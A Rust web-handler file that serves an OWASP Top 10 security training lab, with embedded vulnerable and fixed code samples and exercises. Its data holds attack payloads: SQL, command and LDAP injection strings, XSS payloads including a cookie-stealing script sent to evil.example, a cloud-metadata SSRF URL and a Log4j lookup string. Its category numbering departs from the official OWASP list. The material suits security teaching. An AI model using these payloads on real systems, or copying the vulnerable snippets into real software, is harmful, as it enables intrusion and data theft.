//! OWASP Top 10 interactive security labs.
//!
//! The list endpoint serves a summary projection; the detail endpoint
//! serves the full lab including code samples and exercises.

use axum::{
    body::Body,
    http::{Method, Request},
    response::Response,
};
use serde_json::{json, Value};

use crate::features::subpath;
use crate::http::response::{html, json as json_ok};
use crate::http::server::AppState;
use crate::http::LabError;

pub async fn handle(_state: &AppState, req: Request<Body>) -> Result<Response, LabError> {
    let path = req.uri().path().to_string();
    let rest = subpath(&path, "/owasp-labs");

    if req.method() != Method::GET {
        return Err(LabError::MethodNotAllowed);
    }

    if let Some(lab_id) = rest.strip_prefix("/api/lab/") {
        return lab(lab_id)
            .map(|lab| json_ok(&lab))
            .ok_or_else(|| LabError::NotFound("Lab not found".into()));
    }

    match rest {
        "/" => Ok(html(page())),
        "/api/labs" => Ok(json_ok(&lab_summaries())),
        _ => Err(LabError::NotFound("Not found".into())),
    }
}

/// Summary projection: everything except the training material.
fn lab_summaries() -> Value {
    let summaries: Vec<Value> = labs()
        .as_array()
        .unwrap_or(&Vec::new())
        .iter()
        .map(|lab| {
            json!({
                "id": lab["id"],
                "title": lab["title"],
                "description": lab["description"],
                "severity": lab["severity"],
                "cvss": lab["cvss"],
                "labs": lab["labs"].as_array().map(Vec::len).unwrap_or(0)
            })
        })
        .collect();
    Value::Array(summaries)
}

fn lab(id: &str) -> Option<Value> {
    labs().as_array()?.iter().find(|lab| lab["id"] == id).cloned()
}

fn labs() -> Value {
    json!([
        {
            "id": "sql-injection",
            "title": "A01 - SQL Injection",
            "description": "Learn how attackers inject malicious SQL code to bypass authentication and steal data",
            "vulnerability": "SQL Injection allows attackers to manipulate SQL queries by inserting malicious code through user input, bypassing login systems and accessing unauthorized data.",
            "severity": "CRITICAL",
            "cvss": 9.8,
            "realWorldExample": "A login form that directly concatenates user input: SELECT * FROM users WHERE username='admin' OR '1'='1' --' escapes security checks.",
            "codeVulnerable": "// VULNERABLE CODE\napp.post('/login', (req, res) => {\n  const query = \"SELECT * FROM users WHERE username='\" + req.body.username + \"' AND password='\" + req.body.password + \"'\";\n  db.query(query, (err, result) => {\n    if (result.length > 0) res.send(\"Login successful\");\n    else res.send(\"Login failed\");\n  });\n});",
            "codeFixed": "// SECURE CODE\napp.post('/login', (req, res) => {\n  const query = \"SELECT * FROM users WHERE username=? AND password=?\";\n  db.query(query, [req.body.username, req.body.password], (err, result) => {\n    if (result.length > 0) res.send(\"Login successful\");\n    else res.send(\"Login failed\");\n  });\n});",
            "preventionSteps": [
                "Use parameterized queries/prepared statements",
                "Implement input validation and sanitization",
                "Apply least privilege principle to database accounts",
                "Use ORM frameworks that auto-escape queries",
                "Enable SQL error suppression in production"
            ],
            "labs": [
                {
                    "name": "Login Bypass Attack",
                    "description": "Try to bypass login by injecting SQL",
                    "challenge": "Username field accepts input. Try: admin' OR '1'='1",
                    "answer": "admin' OR '1'='1' --"
                },
                {
                    "name": "Data Extraction",
                    "description": "Extract sensitive data via UNION SELECT",
                    "challenge": "Extract user emails using: ' UNION SELECT email FROM users --",
                    "answer": "' UNION SELECT email FROM users --"
                },
                {
                    "name": "Blind SQL Injection",
                    "description": "Extract data without visible error messages",
                    "challenge": "Use time-based blind SQL: '; WAITFOR DELAY '00:00:05' --",
                    "answer": "time-based detection via response delay"
                }
            ]
        },
        {
            "id": "broken-auth",
            "title": "A02 - Broken Authentication",
            "description": "Exploits in authentication mechanisms that allow unauthorized access",
            "vulnerability": "Weak password policies, session token reuse, lack of MFA, and poor password storage enable attackers to hijack user accounts.",
            "severity": "CRITICAL",
            "cvss": 9.7,
            "realWorldExample": "Storing passwords in plain text or with weak hashing (MD5) allows attackers to crack them in seconds.",
            "codeVulnerable": "// VULNERABLE CODE\napp.post('/register', (req, res) => {\n  // WEAK: MD5 hashing is broken - can be cracked in milliseconds\n  const passwordHash = md5(req.body.password);\n  db.query(\"INSERT INTO users VALUES (?, ?)\", [req.body.email, passwordHash]);\n  res.send(\"User registered\");\n});",
            "codeFixed": "// SECURE CODE\napp.post('/register', async (req, res) => {\n  // STRONG: bcrypt with salt rounds\n  const passwordHash = await bcrypt.hash(req.body.password, 12);\n  db.query(\"INSERT INTO users VALUES (?, ?)\", [req.body.email, passwordHash]);\n  res.send(\"User registered\");\n});",
            "preventionSteps": [
                "Use strong hashing algorithms (bcrypt, Argon2, PBKDF2)",
                "Implement multi-factor authentication (MFA)",
                "Use secure session management with HTTP-only cookies",
                "Enforce strong password policies",
                "Implement account lockout after failed attempts",
                "Avoid session fixation vulnerabilities"
            ],
            "labs": [
                {
                    "name": "Weak Password Cracking",
                    "description": "Crack an MD5 hash",
                    "challenge": "MD5 hash 'password123': 482c811da5d5b4bc6d497ffa98491e38",
                    "answer": "password123"
                },
                {
                    "name": "Session Hijacking",
                    "description": "Reuse a stolen session token",
                    "challenge": "Session token prediction with predictable IDs",
                    "answer": "Exploit sequential session IDs"
                },
                {
                    "name": "Credential Stuffing",
                    "description": "Test leaked credentials against login",
                    "challenge": "Automate login attempts with common passwords",
                    "answer": "Use credential lists against weak rate limiting"
                }
            ]
        },
        {
            "id": "injection",
            "title": "A03 - Injection (Various Types)",
            "description": "NoSQL, OS, LDAP, and other injection attacks beyond SQL",
            "vulnerability": "Any user input concatenated into commands without proper escaping creates injection risks across databases, operating systems, and frameworks.",
            "severity": "CRITICAL",
            "cvss": 9.6,
            "realWorldExample": "NoSQL injection: db.find({username: {$ne: null}}) when username comes from user input",
            "codeVulnerable": "// VULNERABLE: NoSQL Injection\napp.post('/search', (req, res) => {\n  db.collection('products').find({name: req.body.search}).toArray((err, results) => {\n    res.send(results);\n  });\n});",
            "codeFixed": "// SECURE: Validated NoSQL query\napp.post('/search', (req, res) => {\n  if (typeof req.body.search !== 'string') return res.status(400).send(\"Invalid input\");\n  db.collection('products').find({name: new RegExp(req.body.search, 'i')}).toArray((err, results) => {\n    res.send(results);\n  });\n});",
            "preventionSteps": [
                "Always validate and sanitize user input",
                "Use parameterized queries and prepared statements",
                "Implement input whitelisting for expected formats",
                "Use command escaping functions",
                "Run processes with minimal privileges",
                "Disable dangerous commands in LDAP/command contexts"
            ],
            "labs": [
                {
                    "name": "NoSQL Injection",
                    "description": "Bypass authentication via NoSQL operator",
                    "challenge": "Inject {$ne: null} to match all users",
                    "answer": "{$ne: null}"
                },
                {
                    "name": "OS Command Injection",
                    "description": "Chain shell commands through unsanitized input",
                    "challenge": "Append '; cat /etc/passwd' to a filename parameter",
                    "answer": "; cat /etc/passwd"
                },
                {
                    "name": "LDAP Injection",
                    "description": "Manipulate LDAP filters via user input",
                    "challenge": "Inject *)(uid=*))(|(uid=* to widen the filter",
                    "answer": "*)(uid=*))(|(uid=*"
                }
            ]
        },
        {
            "id": "broken-access-control",
            "title": "A04 - Broken Access Control",
            "description": "Unauthorized access to resources due to inadequate permission checks",
            "vulnerability": "Missing or inconsistent authorization checks let users act outside their intended permissions, reading or modifying other users' data.",
            "severity": "CRITICAL",
            "cvss": 9.5,
            "realWorldExample": "Changing /api/orders/1001 to /api/orders/1002 exposes another customer's order because the handler never checks ownership.",
            "codeVulnerable": "// VULNERABLE: no ownership check\napp.get('/api/orders/:id', (req, res) => {\n  db.query(\"SELECT * FROM orders WHERE id=?\", [req.params.id], (err, order) => {\n    res.send(order);\n  });\n});",
            "codeFixed": "// SECURE: scope the query to the session user\napp.get('/api/orders/:id', (req, res) => {\n  db.query(\"SELECT * FROM orders WHERE id=? AND user_id=?\", [req.params.id, req.session.userId], (err, order) => {\n    if (!order) return res.status(403).send(\"Forbidden\");\n    res.send(order);\n  });\n});",
            "preventionSteps": [
                "Deny by default; require explicit grants",
                "Enforce ownership checks on every object reference",
                "Centralize authorization logic server-side",
                "Disable directory listing and metadata exposure",
                "Log and alert on repeated access-control failures"
            ],
            "labs": [
                {
                    "name": "IDOR Exploitation",
                    "description": "Access another user's record by changing an ID",
                    "challenge": "Increment the order ID in the URL and observe the response",
                    "answer": "Sequential IDs expose other users' orders"
                },
                {
                    "name": "Forced Browsing",
                    "description": "Reach admin pages without a role check",
                    "challenge": "Request /admin/export directly while logged in as a user",
                    "answer": "/admin/export returns data without role validation"
                },
                {
                    "name": "Method Tampering",
                    "description": "Bypass a read-only restriction with a different verb",
                    "challenge": "Replay a GET-only endpoint as DELETE",
                    "answer": "Unhandled verbs fall through the access check"
                }
            ]
        },
        {
            "id": "security-misconfiguration",
            "title": "A05 - Security Misconfiguration",
            "description": "Insecure default settings, incomplete setups, and exposed cloud storage",
            "vulnerability": "Default credentials, verbose error pages, open cloud buckets, and unnecessary services give attackers footholds without any exploit.",
            "severity": "HIGH",
            "cvss": 8.8,
            "realWorldExample": "A public S3 bucket with directory listing enabled leaks every customer document to anyone with the URL.",
            "codeVulnerable": "// VULNERABLE: stack traces sent to clients\napp.use((err, req, res, next) => {\n  res.status(500).send(err.stack);\n});",
            "codeFixed": "// SECURE: generic error page, detail stays in logs\napp.use((err, req, res, next) => {\n  logger.error(err);\n  res.status(500).send(\"Internal server error\");\n});",
            "preventionSteps": [
                "Harden and repeatably provision every environment",
                "Remove default accounts and sample applications",
                "Disable verbose errors and debug endpoints in production",
                "Audit cloud storage permissions continuously",
                "Keep a minimal platform: remove unused features"
            ],
            "labs": [
                {
                    "name": "Default Credential Sweep",
                    "description": "Log in to an admin console with factory credentials",
                    "challenge": "Try admin/admin on the exposed management port",
                    "answer": "admin/admin"
                },
                {
                    "name": "Open Bucket Discovery",
                    "description": "Enumerate a misconfigured storage bucket",
                    "challenge": "List objects on a bucket with public-read ACL",
                    "answer": "Bucket listing returns customer files"
                },
                {
                    "name": "Verbose Error Mining",
                    "description": "Harvest internals from stack traces",
                    "challenge": "Send malformed JSON and read the 500 response",
                    "answer": "Stack trace reveals framework and file paths"
                }
            ]
        },
        {
            "id": "xss",
            "title": "A06 - Cross-Site Scripting (XSS)",
            "description": "Injecting malicious JavaScript into web pages viewed by other users",
            "vulnerability": "Rendering untrusted input without encoding lets attackers run scripts in victims' browsers, stealing sessions and defacing pages.",
            "severity": "CRITICAL",
            "cvss": 9.4,
            "realWorldExample": "A comment field that echoes <script>document.location='https://evil.example/?c='+document.cookie</script> exfiltrates every reader's session.",
            "codeVulnerable": "// VULNERABLE: raw HTML interpolation\napp.get('/search', (req, res) => {\n  res.send(`<h1>Results for ${req.query.q}</h1>`);\n});",
            "codeFixed": "// SECURE: encode output, set CSP\napp.get('/search', (req, res) => {\n  res.set('Content-Security-Policy', \"default-src 'self'\");\n  res.send(`<h1>Results for ${escapeHtml(req.query.q)}</h1>`);\n});",
            "preventionSteps": [
                "Encode output for the HTML context it lands in",
                "Use templating engines with auto-escaping",
                "Deploy a restrictive Content Security Policy",
                "Mark session cookies HttpOnly",
                "Sanitize rich-text input with an allowlist"
            ],
            "labs": [
                {
                    "name": "Reflected XSS",
                    "description": "Execute script via a search parameter",
                    "challenge": "Submit <script>alert(1)</script> in the query field",
                    "answer": "<script>alert(1)</script>"
                },
                {
                    "name": "Stored XSS",
                    "description": "Persist a payload in a comment",
                    "challenge": "Post an <img onerror> payload that fires for every viewer",
                    "answer": "<img src=x onerror=alert(document.cookie)>"
                },
                {
                    "name": "DOM XSS",
                    "description": "Exploit client-side sinks",
                    "challenge": "Abuse location.hash written into innerHTML",
                    "answer": "#<img src=x onerror=alert(1)>"
                }
            ]
        },
        {
            "id": "insecure-deserialization",
            "title": "A07 - Insecure Deserialization",
            "description": "Deserializing untrusted data leads to RCE and object injection attacks",
            "vulnerability": "Feeding attacker-controlled bytes into native deserializers lets crafted objects execute code or tamper with application logic.",
            "severity": "CRITICAL",
            "cvss": 9.3,
            "realWorldExample": "A session cookie holding a serialized object is swapped for a gadget-chain payload that spawns a shell on deserialization.",
            "codeVulnerable": "// VULNERABLE: trusting a serialized cookie\napp.use((req, res, next) => {\n  req.user = deserialize(req.cookies.session);\n  next();\n});",
            "codeFixed": "// SECURE: signed, data-only tokens\napp.use((req, res, next) => {\n  req.user = jwt.verify(req.cookies.session, SECRET);\n  next();\n});",
            "preventionSteps": [
                "Never deserialize untrusted input with native formats",
                "Prefer data-only formats like JSON with schema validation",
                "Sign and verify any serialized state",
                "Run deserialization in low-privilege sandboxes",
                "Monitor for deserialization exceptions"
            ],
            "labs": [
                {
                    "name": "Cookie Tampering",
                    "description": "Modify a serialized session object",
                    "challenge": "Flip the role field inside the serialized cookie",
                    "answer": "role=admin in the deserialized object"
                },
                {
                    "name": "Gadget Chain",
                    "description": "Trigger code execution via a known gadget",
                    "challenge": "Submit a ysoserial-style payload to the import endpoint",
                    "answer": "Gadget chain executes on deserialization"
                },
                {
                    "name": "Type Confusion",
                    "description": "Substitute an unexpected object type",
                    "challenge": "Replace the expected DTO with a proxy object",
                    "answer": "Handler invokes attacker-controlled methods"
                }
            ]
        },
        {
            "id": "logging-monitoring",
            "title": "A08 - Software & Data Integrity Failures",
            "description": "Missing logging, monitoring, and integrity verification allows attacks to go undetected",
            "vulnerability": "Unsigned updates, unverified pipelines, and silent security events let attackers persist for months without detection.",
            "severity": "HIGH",
            "cvss": 8.6,
            "realWorldExample": "A CI pipeline pulls an unpinned dependency; a poisoned release ships to production and no alert ever fires.",
            "codeVulnerable": "// VULNERABLE: unverified update fetch\nconst update = await fetch(UPDATE_URL).then(r => r.arrayBuffer());\nfs.writeFileSync('app.bin', Buffer.from(update));",
            "codeFixed": "// SECURE: verify signature before install\nconst update = await fetch(UPDATE_URL).then(r => r.arrayBuffer());\nif (!verifySignature(update, PUBLIC_KEY)) throw new Error('bad signature');\nfs.writeFileSync('app.bin', Buffer.from(update));",
            "preventionSteps": [
                "Sign releases and verify signatures before install",
                "Pin dependencies and verify checksums in CI",
                "Log authentication and access-control failures",
                "Alert on anomalies in near real time",
                "Protect logs from tampering and deletion"
            ],
            "labs": [
                {
                    "name": "Silent Brute Force",
                    "description": "Attack an endpoint that logs nothing",
                    "challenge": "Run 1,000 login attempts and check the audit trail",
                    "answer": "No events recorded; attack invisible"
                },
                {
                    "name": "Unpinned Dependency",
                    "description": "Poison a build through a floating version",
                    "challenge": "Publish a higher semver of an internal package name",
                    "answer": "Dependency confusion pulls the attacker package"
                },
                {
                    "name": "Log Tampering",
                    "description": "Erase traces from writable logs",
                    "challenge": "Truncate the audit log after privilege escalation",
                    "answer": "World-writable log file allows cleanup"
                }
            ]
        },
        {
            "id": "ssrf",
            "title": "A09 - Server-Side Request Forgery (SSRF)",
            "description": "Tricks the server into making requests to unintended destinations",
            "vulnerability": "URL parameters fetched server-side reach internal services and cloud metadata endpoints the attacker could never reach directly.",
            "severity": "HIGH",
            "cvss": 8.7,
            "realWorldExample": "An image-proxy endpoint fetches http://169.254.169.254/latest/meta-data/ and returns cloud credentials to the attacker.",
            "codeVulnerable": "// VULNERABLE: fetches any URL\napp.get('/proxy', async (req, res) => {\n  const data = await fetch(req.query.url).then(r => r.text());\n  res.send(data);\n});",
            "codeFixed": "// SECURE: allowlist hosts, block internal ranges\napp.get('/proxy', async (req, res) => {\n  const url = new URL(req.query.url);\n  if (!ALLOWED_HOSTS.includes(url.hostname)) return res.status(400).send(\"Blocked\");\n  const data = await fetch(url).then(r => r.text());\n  res.send(data);\n});",
            "preventionSteps": [
                "Allowlist destination hosts and schemes",
                "Block RFC1918 and link-local address ranges",
                "Disable redirects on server-side fetches",
                "Isolate fetchers in egress-restricted segments",
                "Require IMDSv2 or equivalent for cloud metadata"
            ],
            "labs": [
                {
                    "name": "Metadata Theft",
                    "description": "Reach the cloud metadata service",
                    "challenge": "Point the proxy at 169.254.169.254",
                    "answer": "http://169.254.169.254/latest/meta-data/"
                },
                {
                    "name": "Internal Port Scan",
                    "description": "Map internal services via response timing",
                    "challenge": "Probe http://10.0.0.5:6379 through the fetcher",
                    "answer": "Timing differences reveal open ports"
                },
                {
                    "name": "Redirect Bypass",
                    "description": "Defeat an allowlist with an open redirect",
                    "challenge": "Chain an allowed host's redirect to an internal IP",
                    "answer": "302 to internal address bypasses the check"
                }
            ]
        },
        {
            "id": "vulnerable-components",
            "title": "A10 - Using Components with Known Vulnerabilities",
            "description": "Using outdated libraries and frameworks with publicly known security flaws",
            "vulnerability": "Running components with published CVEs hands attackers a scripted path in; exploit kits target known versions within hours of disclosure.",
            "severity": "HIGH",
            "cvss": 8.5,
            "realWorldExample": "An unpatched Log4j 2.14 instance is compromised via a single ${jndi:ldap://} string in a User-Agent header.",
            "codeVulnerable": "// VULNERABLE: pinned to a version with a published RCE\n\"dependencies\": {\n  \"log4j-core\": \"2.14.0\"\n}",
            "codeFixed": "// SECURE: patched version plus automated audit in CI\n\"dependencies\": {\n  \"log4j-core\": \"2.17.1\"\n}\n// ci: npm audit --audit-level=high",
            "preventionSteps": [
                "Inventory every component and its version",
                "Subscribe to advisories for the full stack",
                "Automate dependency scanning in CI",
                "Patch on a defined SLA by severity",
                "Remove unused dependencies"
            ],
            "labs": [
                {
                    "name": "Version Fingerprinting",
                    "description": "Identify a vulnerable framework version",
                    "challenge": "Read version headers and error pages",
                    "answer": "X-Powered-By reveals an exploitable release"
                },
                {
                    "name": "Public Exploit Replay",
                    "description": "Run a published PoC against a lab target",
                    "challenge": "Apply the CVE PoC to the unpatched service",
                    "answer": "PoC grants remote shell on first attempt"
                },
                {
                    "name": "Transitive Risk Audit",
                    "description": "Find vulnerable code you never imported directly",
                    "challenge": "Trace a CVE to a transitive dependency",
                    "answer": "Lockfile shows the flaw three levels deep"
                }
            ]
        }
    ])
}

fn page() -> &'static str {
    r#"<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="UTF-8">
<meta name="viewport" content="width=device-width, initial-scale=1.0">
<title>OWASP Top 10 Security Labs</title>
<style>
  body { margin: 0; font-family: 'Segoe UI', sans-serif; background: #0a0e17; color: #e0e6ed; }
  header { padding: 24px 32px; background: linear-gradient(135deg, #3d1a1a, #220d0d); border-bottom: 2px solid #ff6b35; }
  h1 { margin: 0; font-size: 26px; color: #ff6b35; }
  .subtitle { color: #8892a6; margin-top: 4px; }
  .grid { display: grid; grid-template-columns: repeat(auto-fit, minmax(280px, 1fr)); gap: 16px; padding: 24px 32px; }
  .lab-card { background: #141b2e; border: 1px solid #242e48; border-radius: 8px; padding: 18px; cursor: pointer; }
  .lab-card:hover { border-color: #ff6b35; }
  .cvss { color: #ff3355; font-weight: 700; }
  .panel { margin: 0 32px 24px; background: #141b2e; border: 1px solid #242e48; border-radius: 8px; padding: 20px; }
  pre { white-space: pre-wrap; color: #a9b4c9; background: #0f1524; padding: 12px; border-radius: 6px; }
</style>
</head>
<body>
<header>
  <h1>&#128737; OWASP Top 10 Labs</h1>
  <div class="subtitle">Hands-on vulnerability training with guided exercises</div>
</header>
<div class="grid" id="labs"></div>
<div class="panel"><h2>Lab Detail</h2><pre id="detail">Select a lab above.</pre></div>
<script>
async function openLab(id) {
  const lab = await fetch('/owasp-labs/api/lab/' + id).then(r => r.json());
  document.getElementById('detail').textContent = JSON.stringify(lab, null, 2);
}
async function load() {
  const labs = await fetch('/owasp-labs/api/labs').then(r => r.json());
  document.getElementById('labs').innerHTML = labs.map(l =>
    `<div class="lab-card" onclick="openLab('${l.id}')">
       <strong>${l.title}</strong> <span class="cvss">CVSS ${l.cvss}</span><br>
       ${l.description}<br>${l.severity} &middot; ${l.labs} exercises</div>`).join('');
}
load();
</script>
</body>
</html>"#
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ten_labs_three_exercises_each() {
        let all = labs();
        let all = all.as_array().unwrap();
        assert_eq!(all.len(), 10);
        for lab in all {
            assert_eq!(lab["labs"].as_array().unwrap().len(), 3);
        }
    }

    #[test]
    fn summary_projection_replaces_exercises_with_count() {
        let summaries = lab_summaries();
        let first = &summaries.as_array().unwrap()[0];
        assert_eq!(first["id"], "sql-injection");
        assert_eq!(first["cvss"], 9.8);
        assert_eq!(first["labs"], 3);
        assert!(first.get("codeVulnerable").is_none());
    }

    #[test]
    fn detail_lookup() {
        assert_eq!(lab("broken-auth").unwrap()["cvss"], 9.7);
        assert!(lab("nonexistent").is_none());
    }
}
